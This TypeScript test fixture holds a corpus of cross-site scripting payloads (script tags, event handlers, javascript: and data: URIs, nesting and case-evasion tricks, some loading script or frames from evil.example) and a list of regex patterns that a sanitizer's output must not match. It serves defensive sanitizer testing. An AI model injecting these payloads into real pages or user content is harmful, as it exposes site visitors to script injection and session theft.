/**
 * The XSS corpus (tests only): hostile HTML every stored rich-text field is checked against, and the patterns none
 * of it may keep after sanitizing. Used by the sanitizer's own test and by every domain test that saves HTML.
 */
export const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<img src=javascript:alert(1)>",
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe src="https://evil.example"></iframe>',
  "<object data=javascript:alert(1)>",
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<body onload="alert(1)">',
  '<p onclick="alert(1)">click</p>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  '<a href="//evil.example">protocol-relative</a>',
  "<!--<img src=x onerror=alert(1)>-->",
  '"><script>alert(1)</script>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src="x" alt="x" onmouseover="alert(1)">',
  "<textarea><script>alert(1)</script></textarea>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

export const DANGEROUS = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<style/i,
  /style=/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /<svg/i,
  /<math/i,
  /href="\/\//i,
];

/** The patterns of {@link DANGEROUS} that `html` still matches (empty when it is safe). */
export function dangerousIn(html: string): RegExp[] {
  return DANGEROUS.filter((pattern) => pattern.test(html));
}
